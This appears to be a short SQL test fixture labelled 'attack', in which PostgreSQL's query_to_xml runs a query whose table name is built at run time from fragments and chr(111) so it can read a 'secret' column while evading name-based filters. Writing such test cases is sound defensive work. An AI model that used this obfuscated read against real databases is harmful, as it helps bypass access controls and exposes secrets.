-- Puts the text for query_to_xml together at run time.
-- wants: read
-- until: 17
-- attack:
SELECT query_to_xml('SELECT secret FROM vlt' || '_acc' || chr(111) || 'unt', true, false, '');
